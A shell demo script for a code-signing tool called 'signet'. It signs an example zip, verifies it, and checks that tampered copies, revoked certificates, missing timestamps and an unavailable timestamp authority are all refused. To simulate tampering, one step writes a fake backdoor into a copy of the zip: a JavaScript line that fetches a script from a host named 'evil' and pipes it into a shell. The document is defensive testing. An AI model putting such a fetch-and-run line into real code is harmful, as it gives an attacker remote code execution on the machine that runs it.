#!/bin/sh
# signet demo (make demo): sign the example zip, verify it, then show tampered
# copies being refused. Works on copies in a temporary directory; never writes
# into keys-example/. Exits 0 only if the good zip verified and every tampered
# copy was refused.
# Usage: sh keys-example/demo.sh PATH_TO_SIGNET
set -u
signet=${1:?usage: demo.sh PATH_TO_SIGNET}
case $signet in /*) ;; *) signet=$(pwd)/$signet ;; esac
here=$(cd "$(dirname "$0")" && pwd)
tmp=$(mktemp -d "${TMPDIR:-/tmp}/signet-demo.XXXXXX") || exit 1
tsa_pid=""
trap '[ -n "$tsa_pid" ] && kill "$tsa_pid" 2>/dev/null; rm -rf "$tmp"' EXIT
trap 'exit 1' INT TERM
ok=1

say() { printf '\n==> %s\n' "$*"; }
show() { printf '$ %s\n' "$*"; "$@" 2>&1; }

cp "$here/app-1.0.zip" "$tmp/app-1.0.zip"
cd "$tmp" || exit 1

say "sign the deployment zip with the example key (passphrase from SIGNET_PASSPHRASE)"
if ! SIGNET_PASSPHRASE=example-passphrase show "$signet" sign -k "$here/release.key" app-1.0.zip; then
    echo "demo: signing failed" >&2
    exit 1
fi

say "verify it under keys-example/policy.json"
show "$signet" verify -p "$here/policy.json" app-1.0.zip
rc=$?
echo "exit status $rc"
[ "$rc" -eq 0 ] || { echo "demo: the signed zip did not verify" >&2; ok=0; }

refused() { # refused DIR: verify DIR/app-1.0.zip with the original bundle; must fail
    show "$signet" verify -p "$here/policy.json" -b app-1.0.zip.sigstore.json "$1/app-1.0.zip"
    rc=$?
    echo "exit status $rc"
    if [ "$rc" -eq 0 ]; then
        echo "demo: the tampered copy in $1 was NOT refused" >&2
        ok=0
    fi
}

say "tamper 1: change one byte of a copy"
mkdir byte && cp app-1.0.zip byte/
printf 'X' | dd of=byte/app-1.0.zip bs=1 seek=100 conv=notrunc 2>/dev/null
refused byte

if command -v zip >/dev/null; then
    say "tamper 2: add an entry to a copy"
    mkdir added && cp app-1.0.zip added/
    (cd added && printf 'require("child_process").exec("curl evil | sh");\n' >backdoor.js &&
        zip -q app-1.0.zip backdoor.js && rm backdoor.js)
    refused added
fi

say "sign the zip with the example code-signing certificate (keys-example/pki/signer.pem)"
if show "$signet" sign -k "$here/pki/signer.key" --cert "$here/pki/signer.pem" -o cert.sigstore.json app-1.0.zip; then
    say "verify it under keys-example/policy-pki.json (chain to the example root, EKU, subject, CRLs)"
    show "$signet" verify -p "$here/policy-pki.json" -b cert.sigstore.json app-1.0.zip
    rc=$?
    echo "exit status $rc"
    if [ "$rc" -ne 0 ]; then
        echo "demo: the certificate-signed zip did not verify (expired example PKI? rerun keys-example/make-pki.sh)" >&2
        ok=0
    fi
    say "a certificate revoked by the example CRL is refused (exit status 5)"
    show "$signet" sign -k "$here/pki/revoked.key" --cert "$here/pki/revoked.pem" -o revoked.sigstore.json app-1.0.zip
    show "$signet" verify -p "$here/policy-pki.json" -b revoked.sigstore.json app-1.0.zip
    rc=$?
    echo "exit status $rc"
    [ "$rc" -eq 5 ] || { echo "demo: the revoked certificate was NOT refused" >&2; ok=0; }
else
    echo "demo: signing with the example certificate failed (expired example PKI? rerun keys-example/make-pki.sh)" >&2
    ok=0
fi

# ---- trusted timestamps: a local RFC 3161 TSA (the test server) on 127.0.0.1 ----
tsa_server=$(dirname "$signet")/signet-tsa-test-server
if [ -x "$tsa_server" ] && command -v openssl >/dev/null; then
    say "timestamps: start a throw-away RFC 3161 TSA on 127.0.0.1 (certificates made now with openssl)"
    mkdir tsa && (
        cd tsa || exit 1
        openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout root.key -out root.pem \
            -subj "/CN=signet demo TSA root" -days 30 -addext basicConstraints=critical,CA:TRUE \
            -addext keyUsage=critical,keyCertSign >/dev/null 2>&1 &&
        openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout tsa.key -out tsa.csr \
            -subj "/CN=signet demo TSA" >/dev/null 2>&1 &&
        printf 'basicConstraints=critical,CA:FALSE\nkeyUsage=critical,digitalSignature\nextendedKeyUsage=critical,timeStamping\n' >ext.cnf &&
        openssl x509 -req -in tsa.csr -CA root.pem -CAkey root.key -CAcreateserial -days 30 -extfile ext.cnf \
            -out tsa.pem >/dev/null 2>&1
    ) || { echo "demo: cannot make the TSA certificates" >&2; exit 1; }
    "$tsa_server" --cert tsa/tsa.pem --key tsa/tsa.key --port-file tsa/url --until-killed >/dev/null &
    tsa_pid=$!
    i=0
    while [ ! -s tsa/url ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i + 1)); done
    url=$(cat tsa/url 2>/dev/null)
    sleep 2 # genTime +- the TSA's accuracy (1 s) must lie inside its certificate's validity, which began just now
    [ -n "$url" ] || { echo "demo: the TSA did not start" >&2; exit 1; }
    echo "TSA listening at $url"
    sed -e 's|"keys"|"timestamp_authorities": [{"name": "demo-tsa", "certificates": "'"$tmp"'/tsa/root.pem"}], "keys"|' \
        -e 's|"release.pub"|"'"$here"'/release.pub"|; s|"other.pub"|"'"$here"'/other.pub"|' \
        -e 's|"threshold": 1}|"threshold": 1, "timestamp": true}|' \
        "$here/policy.json" > tsa-policy.json
    say "sign with a timestamp from the TSA, and show it"
    if ! SIGNET_PASSPHRASE=example-passphrase show "$signet" sign -k "$here/release.key" --tsa "$url" \
        -o stamped.sigstore.json app-1.0.zip; then
        echo "demo: signing with a timestamp failed" >&2
        ok=0
    fi
    show "$signet" inspect stamped.sigstore.json
    say "verify: the timestamp is checked against the policy's timestamp_authorities"
    show "$signet" verify -p tsa-policy.json -b stamped.sigstore.json app-1.0.zip
    rc=$?
    echo "exit status $rc"
    [ "$rc" -eq 0 ] || { echo "demo: the timestamped bundle did not verify" >&2; ok=0; }
    say "the same policy (require.timestamp) refuses the bundle signed without a timestamp"
    show "$signet" verify -p tsa-policy.json -b app-1.0.zip.sigstore.json app-1.0.zip
    rc=$?
    echo "exit status $rc"
    [ "$rc" -ne 0 ] || { echo "demo: an unstamped bundle passed require.timestamp" >&2; ok=0; }
    say "certificate + timestamp: sign with the example certificate and the TSA"
    sed -e 's|"pki/|"'"$here"'/pki/|g' \
        -e 's|"roots"|"timestamp_authorities": [{"name": "demo-tsa", "certificates": "'"$tmp"'/tsa/root.pem"}], "roots"|' \
        -e 's|"threshold": 1}|"threshold": 1, "timestamp": true}|' \
        "$here/policy-pki.json" > cert-tsa-policy.json
    if show "$signet" sign -k "$here/pki/signer.key" --cert "$here/pki/signer.pem" --tsa "$url" \
        -o cert-stamped.sigstore.json app-1.0.zip; then
        say "verify under roots + timestamp_authorities: validity and revocation judged at the trusted signing time"
        show "$signet" verify -p cert-tsa-policy.json -b cert-stamped.sigstore.json app-1.0.zip
        rc=$?
        echo "exit status $rc"
        [ "$rc" -eq 0 ] || { echo "demo: the timestamped certificate bundle did not verify" >&2; ok=0; }
    else
        echo "demo: signing with the example certificate and a timestamp failed" >&2
        ok=0
    fi
    say "a TSA that is down: signing fails and writes nothing"
    kill "$tsa_pid" 2>/dev/null
    wait "$tsa_pid" 2>/dev/null
    tsa_pid=""
    SIGNET_PASSPHRASE=example-passphrase show "$signet" sign -k "$here/release.key" --tsa "$url" --tsa-timeout 2 \
        -o down.sigstore.json app-1.0.zip
    rc=$?
    echo "exit status $rc"
    if [ "$rc" -eq 0 ] || [ -e down.sigstore.json ]; then
        echo "demo: signing with a dead TSA did not fail cleanly" >&2
        ok=0
    fi
else
    say "timestamps: skipped ($tsa_server not built, or no openssl)"
fi

if [ "$ok" -eq 1 ]; then
    say "demo passed: the signed zip verified and every tampered copy was refused"
    exit 0
fi
say "demo FAILED"
exit 1
